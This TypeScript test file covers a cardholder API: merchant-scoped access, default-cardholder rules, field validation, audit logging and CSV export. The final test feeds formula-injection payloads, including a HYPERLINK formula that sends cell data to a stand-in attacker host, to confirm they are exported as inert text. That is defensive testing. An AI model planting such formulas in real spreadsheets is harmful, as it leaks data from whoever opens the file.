import { parse } from 'csv-parse/sync'
import { and, count, eq } from 'drizzle-orm'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { auditLog, cardholders, merchants } from '../../db/schema'
import { createTestApi, type TestApi } from '../../testing/harness'
import { sessionFor } from '../../testing/sessions'

let api: TestApi
let admin: string
let merchantUser: string
let companyAdmin: string
/** Demo merchants: Blue Harbor (parent company), Skyline (the merchant user's), Lotus. */
let blue: number
let skyline: number
let lotus: number

const save = (body: Record<string, unknown>, token = admin, lang?: string) =>
  api.call('/cardholder/save', body, { token, lang })
const person = (over: Record<string, unknown> = {}) => ({
  merchantId: skyline,
  firstName: 'Ada',
  lastName: 'Lim',
  areaCode: '65',
  phone: '81230000',
  email: 'ada.lim@example.com',
  birthday: '1990-05-01',
  country: 'SG',
  state: '01',
  city: 'Singapore',
  address: '5 Shenton Way',
  postalCode: '068808',
  ...over,
})

async function counts() {
  const [{ h }] = await api.deps.db.select({ h: count() }).from(cardholders)
  const [{ a }] = await api.deps.db.select({ a: count() }).from(auditLog)
  return [Number(h), Number(a)]
}
async function defaultsOf(merchantId: number) {
  const rows = await api.deps.db
    .select({ email: cardholders.email })
    .from(cardholders)
    .where(and(eq(cardholders.merchantId, merchantId), eq(cardholders.isDefault, true)))
  return rows.map((r) => r.email)
}

beforeAll(async () => {
  api = await createTestApi()
  ;[admin, merchantUser, companyAdmin] = await Promise.all(
    ['admin', 'merchant.user', 'company.admin'].map((n) => sessionFor(api, n)),
  )
  const byName = async (name: string) =>
    (await api.deps.db.select().from(merchants).where(eq(merchants.name, name)))[0].id
  ;[blue, skyline, lotus] = await Promise.all(
    ['Blue Harbor Hotels', 'Skyline Air Tickets', 'Lotus Car Rental'].map(byName),
  )
})
afterAll(() => api.close())

describe('cardholders of a merchant user', () => {
  it('lists only its own merchant’s cardholders and creates one for it', async () => {
    const list = await api.call('/cardholder/list', {}, { token: merchantUser })
    expect(list.body.data.total).toBe(2)
    expect(new Set(list.body.data.list.map((r: { merchantId: number }) => r.merchantId))).toEqual(
      new Set([skyline]),
    )
    const made = await save(person(), merchantUser)
    expect(made.body.code).toBe(0)
    expect(made.body.data).toMatchObject({
      merchantName: 'Skyline Air Tickets',
      middleName: '',
      isDefault: false,
      state: '01',
    })
  })

  it('refuses another merchant’s cardholder: saving for it, reading or editing it', async () => {
    const before = await counts()
    const other = await save(person({ merchantId: blue, email: 'x@example.com' }), merchantUser)
    expect([other.status, other.body.code]).toEqual([422, 3012])
    expect(other.body.data.fieldErrors).toEqual([
      { field: 'merchantId', message: 'The merchant does not exist or is out of your reach' },
    ])
    const [lina] = await api.deps.db
      .select()
      .from(cardholders)
      .where(eq(cardholders.email, 'lina.wong@example.com'))
    expect(
      (await api.call('/cardholder/detail', { id: lina.id }, { token: merchantUser })).status,
    ).toBe(404)
    const edit = await save(person({ id: lina.id, merchantId: blue }), merchantUser)
    expect([edit.status, edit.body.code]).toEqual([404, 3011])
    expect(await counts()).toEqual(before)
  })

  it('lets a company administrator reach its subtree’s merchants', async () => {
    const list = await api.call('/cardholder/list', { pageSize: 50 }, { token: companyAdmin })
    // The demo's four (one for each merchant, two for Skyline) and the one made above.
    expect(list.body.data.total).toBe(5)
    expect(
      (await save(person({ merchantId: lotus, email: 'lotus@example.com' }), companyAdmin)).body
        .code,
    ).toBe(0)
  })
})

describe('one default cardholder per merchant', () => {
  it('setting a new default clears the old one, and only in that merchant', async () => {
    expect(await defaultsOf(skyline)).toEqual(['mei.tan@example.com'])
    const made = await save(person({ email: 'new.default@example.com', isDefault: true }))
    expect(made.body.data.isDefault).toBe(true)
    expect(await defaultsOf(skyline)).toEqual(['new.default@example.com'])
    expect(await defaultsOf(blue)).toEqual(['lina.wong@example.com'])
    // Editing another one into the default moves it again; saving the default again keeps it.
    const [arjun] = await api.deps.db
      .select()
      .from(cardholders)
      .where(eq(cardholders.email, 'arjun.nair@example.com'))
    const { createdAt: _c, updatedAt: _u, id: _i, ...fields } = arjun
    const edited = await save({ ...fields, id: arjun.id, isDefault: true })
    expect(edited.body.code).toBe(0)
    expect(await defaultsOf(skyline)).toEqual(['arjun.nair@example.com'])
    expect((await save({ ...fields, id: arjun.id, isDefault: true })).body.code).toBe(0)
    expect(await defaultsOf(skyline)).toEqual(['arjun.nair@example.com'])
  })
})

describe('validation (spec §5)', () => {
  it.each([
    ['an unknown country', { country: 'XX' }, 3014, 'country', 'Unknown country or region'],
    [
      'a state of another country',
      { state: 'CA' },
      3015,
      'state',
      'The state or province does not belong to the chosen country',
    ],
    ['no state where the country has states', { state: '' }, 3016, 'state', 'Cannot be empty'],
    ['an unknown area code', { areaCode: '999' }, 3017, 'areaCode', 'Unknown area code'],
  ])('refuses %s beside the field, writing nothing', async (_l, over, code, field, message) => {
    const before = await counts()
    const res = await save(person({ email: 'v@example.com', ...over }))
    expect([res.status, res.body.code]).toEqual([422, code])
    expect(res.body.data.fieldErrors).toEqual([{ field, message }])
    expect(await counts()).toEqual(before)
  })

  it('accepts no state for a country without states', async () => {
    // Vatican City has no subdivisions in the ISO 3166-2 data set.
    const res = await save(
      person({ email: 'va@example.com', country: 'VA', state: '', areaCode: '39' }),
    )
    expect(res.body.code).toBe(0)
    expect(res.body.data.state).toBe('')
  })

  it('refuses moving a cardholder to another merchant', async () => {
    const [mei] = await api.deps.db
      .select()
      .from(cardholders)
      .where(eq(cardholders.email, 'mei.tan@example.com'))
    const res = await save(person({ id: mei.id, merchantId: blue }))
    expect([res.status, res.body.code]).toEqual([422, 3013])
    const zh = await save(person({ id: mei.id, merchantId: blue }), admin, 'zh_CN')
    expect(zh.body.msg).toBe('持卡人不能转移到其他商户')
  })

  it.each([
    ['a bad e-mail', { email: 'not-an-email' }, 'email', 'Must be email'],
    [
      'a future birthday',
      { birthday: '2999-01-01' },
      'birthday',
      'The birthday must be a past date',
    ],
    ['a malformed birthday', { birthday: '01/05/1990' }, 'birthday', 'Format is incorrect'],
    ['letters in the phone', { phone: '81-23' }, 'phone', 'Format is incorrect'],
    ['no first name', { firstName: ' ' }, 'firstName', 'Cannot be empty'],
    [
      'a long city',
      { city: 'c'.repeat(101) },
      'city',
      'Field length must be at most 100 characters',
    ],
    [
      'a long remark',
      { remark: 'r'.repeat(501) },
      'remark',
      'Field length must be at most 500 characters',
    ],
    ['a lower-case country', { country: 'sg' }, 'country', 'Unknown country or region'],
  ])('refuses %s with 400, writing nothing', async (_l, over, field, message) => {
    const before = await counts()
    const res = await save(person(over))
    expect(res.status).toBe(400)
    expect(res.body.data.fieldErrors).toContainEqual({ field, message })
    expect(await counts()).toEqual(before)
  })

  it('audits create, update and delete', async () => {
    const made = await save(person({ email: 'audited@example.com' }))
    const id = made.body.data.id
    await save(person({ id, email: 'audited@example.com', city: 'Jurong' }))
    expect(
      (await api.call('/cardholder/delete', { ids: [id] }, { token: admin })).body.data,
    ).toEqual({
      deleted: 1,
    })
    const audits = await api.deps.db
      .select()
      .from(auditLog)
      .where(eq(auditLog.target, `cardholder:${id}`))
    expect(audits.map((a) => a.action)).toEqual([
      'cardholder.create',
      'cardholder.update',
      'cardholder.delete',
    ])
  })
})

describe('export (issue 17 item 6: CSV formula injection)', () => {
  it('exports names a spreadsheet would run as formulas as text, with a leading quote', async () => {
    const names = ['=HYPERLINK("http://evil.example/?q="&A1,"x")', '+1+2', '-3+4', '@SUM(A1)']
    for (const [i, firstName] of names.entries()) {
      const res = await save(person({ firstName, email: `formula${i}@example.com` }))
      expect(res.body.code).toBe(0)
    }
    const csv = await api.fetch(
      '/cardholder/export',
      { format: 'csv', filters: { email: 'formula' } },
      { token: merchantUser },
    )
    expect(csv.status).toBe(200)
    const [header, ...records] = parse(await csv.text(), { bom: true }) as string[][]
    const first = header.indexOf('First name')
    expect(first).toBeGreaterThanOrEqual(0)
    expect(records.map((r) => r[first]).sort()).toEqual(names.map((n) => `'${n}`).sort())
  })
})
